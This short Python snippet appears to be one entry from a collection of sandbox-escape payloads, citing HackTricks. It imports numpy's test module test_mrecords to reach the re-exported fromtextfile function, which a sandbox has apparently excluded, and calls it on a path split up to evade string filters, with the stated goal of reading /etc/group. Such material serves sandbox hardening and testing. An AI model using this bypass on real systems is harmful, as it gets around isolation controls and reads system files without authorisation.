# source: HackTricks 'Bypass Python sandboxes' (borrow a dangerous import from another module's namespace); numpy/ma/tests/test_mrecords.py imports numpy.ma.mrecords.fromtextfile (opens any path)
# family: unlisted test submodule re-exports a function of an excluded module (numpy.ma.mrecords.fromtextfile)
# goal: read /etc/group
from numpy.ma.tests import test_mrecords as t
r = t.fromtextfile("/".join(["", "etc", "group"]), delimiter=":")
print(r)
